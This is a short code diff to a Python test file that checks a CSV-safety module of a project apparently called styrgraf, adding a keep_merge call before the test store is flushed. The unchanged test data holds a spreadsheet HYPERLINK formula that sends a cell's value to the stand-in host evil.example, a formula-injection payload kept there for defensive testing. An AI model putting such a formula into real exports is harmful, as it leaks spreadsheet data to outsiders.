@@ -13,6 +13,7 @@ import pytest
 
 from server import running_server
 from styrgraf.api.csvsafe import csv_cell, neutralise
+from conftest import keep_merge
 
 SG = "https://w3id.org/styrgraf/ns#"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klicka")'
@@ -45,6 +46,7 @@ def base(corpus_store_copy):
         store.update(f"DELETE {{ GRAPH ?d {{ <{goal}> <{SG}statement> ?t }} }} "
                      f"INSERT {{ GRAPH ?d {{ <{goal}> <{SG}statement> {ox.Literal(text)} }} }} "
                      f"WHERE {{ GRAPH ?d {{ <{goal}> <{SG}statement> ?t }} }}")
+    keep_merge(store)
     store.flush()
     del store
     with running_server(corpus_store_copy) as url:
